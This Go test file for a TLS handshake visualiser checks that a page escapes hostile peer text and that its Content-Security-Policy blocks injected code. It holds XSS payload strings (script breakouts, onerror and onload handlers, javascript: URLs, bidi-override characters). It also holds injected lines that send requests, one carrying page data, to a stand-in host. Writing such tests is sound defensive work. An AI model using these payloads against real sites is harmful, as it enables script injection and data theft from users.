package page_test

import (
	"slices"
	"strings"
	"testing"

	"tlslab/handshake/internal/browsertest"
	"tlslab/handshake/narrate"
	"tlslab/handshake/render/page"
)

// hostile are what somebody writes who wants to write on our page: to run, to load, to close
// what we opened, to turn a line round, to hide, to end a text.
const (
	attackASCII = "</script></style></title><script>alert(1)</script>\"'><img src=x onerror=alert(2)>--><!--]]>&lt;&#0;{{7*7}}" +
		"javascript:alert(3)<a href=javascript:alert(4) id=c1.server_hello name=said onclick=alert(5) style=position:fixed>\x00\x1b[2J\tx"
	attack = attackASCII + "<svg/onload=alert(6)>\u202egnp.exe\u2066\u200b\ufeff\u2028\u0085\x7f\u00ad\U000e0041\u0301\u0301é中"
)

// tamed is a text of as many bytes that means no harm.
func tamed(s string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case r < 0x80:
			return 'x'
		case r < 0x800:
			return 'é'
		case r < 0x10000:
			return '中'
		}
		return '𠀀'
	}, s)
}

// shape is what a page is made of, but for its text: every element, its attributes, what they
// say where they are not read to anybody, and in which element text stands.
const shape = `(() => {
	const lines = [];
	const walk = (e, depth) => {
		// These the script sets, once a row has opened.
		// Which numbers the events have depends on how often our end waited for its peer.
		const attributes = [...e.attributes].filter(a => !["tabindex", "aria-label", "role", "aria-expanded"].includes(a.name)).map(a => ["title", "data-said"].includes(a.name) ? a.name :
			a.name + "=" + (a.name == "data-seq" ? a.value.replace(/[0-9]+/g, "n") : a.value)).sort();
		lines.push(depth + " " + e.tagName + " " + attributes.join(" "));
		if (!e.matches("script, style")) for (const n of e.childNodes) {
			if (n.nodeType == 1) walk(n, depth + 1);
			else if (n.nodeType != 3) lines.push(depth + " node of type " + n.nodeType);
		}
	};
	walk(document.documentElement, 0);
	return lines;
})()`

// Whatever a peer says, the page is the page of a peer that says as much of "xxx": no element, no
// attribute, no address is the peer's. Nothing runs, nothing is fetched, and nothing of it can
// turn a line round.
func TestHostilePeer(t *testing.T) {
	tab := browsertest.Blank(t)
	for _, c := range conversations {
		look := func(w words) []string {
			tab.Turn(laidOut(t, c.play(t, w), page.Options{Live: true}), "")
			tab.Press("l", "l", "?", "?", browsertest.Down, browsertest.Right, browsertest.Down, browsertest.Enter)
			browsertest.Eval[bool](tab, "("+openAll+", true)")
			return browsertest.Eval[[]string](tab, shape)
		}
		hostile := words{attack, attackASCII, "\"><img/onerror=alert(7)>\u202e", strings.Repeat("<b>\u202e\"'&", c.long)}
		want := look(words{tamed(hostile.utf8), tamed(hostile.ascii), tamed(hostile.short), tamed(hostile.body)})
		got := look(hostile)
		for i := range min(len(got), len(want)) {
			if got[i] != want[i] {
				t.Errorf("%s: element %d is %q, and a tame peer's is %q", c.name, i, got[i], want[i])
				break
			}
		}
		if len(got) != len(want) || len(got) < 100 {
			t.Errorf("%s: %d elements, and a tame peer's page has %d", c.name, len(got), len(want))
		}
		if !browsertest.Eval[bool](tab, `document.body.textContent.includes("<img src=x onerror=alert(2)>")`) {
			t.Errorf("%s: the attack is nowhere on the page: nothing was tested", c.name)
		}
		if bad := browsertest.Eval[string](tab, `(document.documentElement.outerHTML.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\u{e0000}-\u{e007f}]/u) || [""])[0]`); bad != "" {
			t.Errorf("%s: %U is on the page", c.name, []rune(bad))
		}
	}
}

// Were something of a peer's to get onto the page, the page's policy would stop it: what is put
// there on purpose does not run, is not fetched, and is reported.
func TestPolicy(t *testing.T) {
	tab := open(t, "tls13", narrate.En, "")
	for directive, attack := range map[string]string{
		"script-src-elem": `(e => { e.textContent = "window.ran = 1"; document.body.append(e); })(document.createElement("script"))`,
		"script-src-attr": `document.body.setAttribute("onclick", "window.ran = 1"), document.body.click()`,
		"style-src-attr":  `document.body.setAttribute("style", "display: none")`,
		"style-src-elem":  `(e => { e.textContent = "body { display: none }"; document.body.append(e); })(document.createElement("style"))`,
		"img-src":         `new Image().src = "http://nowhere.example/?" + document.body.textContent.length`,
		"connect-src":     `fetch("http://nowhere.example/").catch(() => 0)`,
		"frame-src":       `(e => { e.src = "http://nowhere.example/"; document.body.append(e); })(document.createElement("iframe"))`,
		"base-uri":        `(e => { e.href = "http://nowhere.example/"; document.head.append(e); })(document.createElement("base"))`,
		"form-action":     `(e => { e.action = "http://nowhere.example/"; document.body.append(e); e.submit(); })(document.createElement("form"))`,
	} {
		browsertest.Eval[bool](tab, `(window.ran = 0, `+attack+`, true)`)
		heard := tab.Provoked(browsertest.Heard{Kind: browsertest.Violation, Text: "the page: " + directive}, browsertest.Heard{Kind: browsertest.Violation, Text: "the browser: " + directive})
		if slices.ContainsFunc(heard, func(h browsertest.Heard) bool { return h.Kind == browsertest.Request }) {
			t.Errorf("%s: something was asked for: %q", directive, heard)
		}
		is(t, tab, `window.ran + getComputedStyle(document.body).display`, "0block")
	}
}
